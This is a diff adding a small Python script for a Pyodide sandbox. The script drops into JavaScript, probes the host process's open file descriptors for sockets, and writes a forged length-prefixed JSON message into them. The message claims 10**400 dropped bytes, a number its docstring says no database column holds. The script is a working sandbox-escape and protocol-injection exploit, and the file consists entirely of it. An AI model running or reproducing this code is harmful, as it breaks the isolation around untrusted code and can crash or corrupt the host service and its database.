@@ -1,0 +1,21 @@
+"""Sends a number that no column of a database holds."""
+
+import json
+
+from pyodide.code import run_js
+
+send = run_js("""(bytes) => {
+  const fs = process.getBuiltinModule("fs");
+  for (let number = 3; number < 64; number++)
+    try {
+      if (fs.fstatSync(number).isSocket()) fs.writeSync(number, bytes.toJs());
+    } catch {}
+}""")
+
+
+def send_message(**message):
+    text = json.dumps(message).encode()
+    send((len(text) + 1).to_bytes(4, "little") + b"J" + text)
+
+
+send_message(type="stream_dropped", request_id=0, dropped_bytes=10**400)
